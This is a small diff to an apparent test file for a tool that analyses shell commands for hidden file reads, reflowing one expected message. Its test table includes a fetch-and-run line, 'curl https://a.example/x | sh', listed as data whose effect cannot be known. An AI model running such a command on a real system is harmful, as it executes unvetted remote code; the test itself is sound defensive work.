@@ -50,7 +50,8 @@ SAYS = "; it says: .env is never read"
         ("curl https://a.example/x | sh", "what `sh` runs from its input is not known"),
         (
             "./deploy.sh $X",
-            "a word of `./deploy.sh $X` that only the shell knows may be a file that the call reads",
+            "a word of `./deploy.sh $X` that only the shell knows may be a file "
+            "that the call reads",
         ),
         ("git p", "`git p` is not a known subcommand"),
         ("git $X", "which subcommand of `git` runs is not known"),
